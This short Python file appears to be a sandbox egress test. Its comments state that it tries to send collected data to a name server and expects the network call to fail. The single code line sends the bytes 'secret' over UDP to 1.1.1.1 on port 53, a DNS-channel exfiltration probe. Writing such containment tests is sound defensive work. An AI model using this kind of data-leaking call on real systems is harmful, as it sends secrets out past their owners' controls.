# tries: sends collected data in a query to a name server
# expect: Network is unreachable|Operation not permitted
import socket

raise SystemExit(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("1.1.1.1", 53)))
